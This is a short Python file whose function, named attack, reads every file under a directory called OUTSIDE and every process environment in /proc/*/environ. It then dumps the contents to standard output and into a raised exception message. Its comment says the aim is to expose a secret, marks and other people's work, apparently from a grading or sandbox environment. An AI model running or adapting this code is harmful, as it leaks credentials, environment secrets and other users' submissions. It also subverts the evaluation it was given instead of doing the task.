# Reads the secret, the marks and what others wrote, and says it wherever somebody may see it.
import glob
import os


def attack(*arguments):
    read = ""
    for name in glob.glob(OUTSIDE + "/**/*", recursive=True) + glob.glob("/proc/*/environ"):
        try:
            with open(name, "rb") as file:
                read += repr(file.read(10**6))
        except OSError:
            pass
    print(read)
    raise ValueError("what I found: " + (read or repr(os.listdir("/"))))
